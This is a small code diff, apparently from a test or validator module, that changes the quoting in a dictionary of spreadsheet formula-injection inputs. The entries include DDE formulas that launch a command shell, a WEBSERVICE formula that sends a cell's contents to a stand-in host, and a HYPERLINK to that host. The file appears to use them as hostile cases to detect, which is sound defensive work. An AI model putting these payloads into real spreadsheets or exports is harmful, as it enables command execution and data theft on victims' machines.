@@ -91,7 +91,7 @@ NUMBERS = {
 """What a number cell may hold that is no number of any report."""
 
 FORMULAS = {
-    "DDE": "DDE(\"cmd\";\"/c calc\";\"A1\")",
+    "DDE": 'DDE("cmd";"/c calc";"A1")',
     "DDE link": "cmd|'/c calc'!A1",
     "WEBSERVICE": 'WEBSERVICE("http://198.51.100.1/"&A1)',
     "HYPERLINK": 'HYPERLINK("http://198.51.100.1/","x")',
